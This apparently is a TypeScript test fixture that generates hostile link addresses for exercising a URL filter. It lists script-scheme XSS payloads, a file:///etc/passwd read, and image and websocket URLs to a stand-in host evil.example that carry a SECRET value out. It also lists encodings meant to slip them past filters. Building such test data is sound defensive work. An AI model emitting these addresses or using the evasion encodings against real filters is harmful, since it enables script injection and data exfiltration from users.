/** An address that must neither run nor be asked, as a model might be made to write it. */
export interface AttackAddress {
  /** What it wants. */
  readonly scheme: string
  /** How it hides that. */
  readonly encoding: string
  readonly address: string
}

/** No request may ever go there. */
export const EVIL_HOST = 'evil.example'

const schemes: Readonly<Record<string, string>> = {
  javascript: 'javascript:alert(1)',
  vbscript: 'vbscript:msgbox(1)',
  'data, a page': 'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  'data, a picture': 'data:image/svg+xml,%3Csvg/onload=alert(1)%3E',
  blob: `blob:https://${EVIL_HOST}/1`,
  file: 'file:///etc/passwd',
  'view-source': `view-source:https://${EVIL_HOST}/`,
  'https, with a secret': `https://${EVIL_HOST}/p.png?q=SECRET`,
  http: `http://${EVIL_HOST}/p.png`,
  'no scheme': `//${EVIL_HOST}/p.png`,
  websocket: `wss://${EVIL_HOST}/`,
}

/** Each hides what an address is, from a filter that reads it and not from a browser. */
const encodings: Readonly<Record<string, (address: string) => string>> = {
  plainly: (address) => address,
  'in mixed case': (address) =>
    address.replaceAll(/[a-z]/g, (letter, index: number) =>
      index % 2 === 0 ? letter.toUpperCase() : letter,
    ),
  'with a decimal entity': (address) => `&#${address.charCodeAt(0)};${address.slice(1)}`,
  'with a hexadecimal entity': (address) => `&#x${address.charCodeAt(0).toString(16)};${address.slice(1)}`,
  'with a named entity': (address) => address.replace(':', '&colon;').replace('//', '&sol;&sol;'),
  'with a tab in it': (address) => `${address.slice(0, 2)}&Tab;${address.slice(2)}`,
  'with a newline in it': (address) => `${address.slice(0, 2)}&NewLine;${address.slice(2)}`,
  'behind a control character': (address) => `\u0001${address}`,
  'behind a blank': (address) => `&#32;${address}`,
  'with a percent sign': (address) => address.replace(':', '%3A').replace('//', '%2F%2F'),
  'with backslashes': (address) => address.replaceAll('/', '\\\\').replace(':', '\\:'),
  'with an invisible character': (address) => `${address.slice(0, 2)}\u200B${address.slice(2)}`,
  'with a wide colon': (address) => address.replace(':', '：'),
}

/** Each scheme in each encoding that makes another text of it. */
export const attackAddresses: readonly AttackAddress[] = Object.entries(schemes).flatMap(
  ([scheme, plain]) => {
    const seen = new Set<string>()
    return Object.entries(encodings).flatMap(([encoding, encode]) => {
      const address = encode(plain)
      if (seen.has(address)) return []
      seen.add(address)
      return { scheme, encoding, address }
    })
  },
)
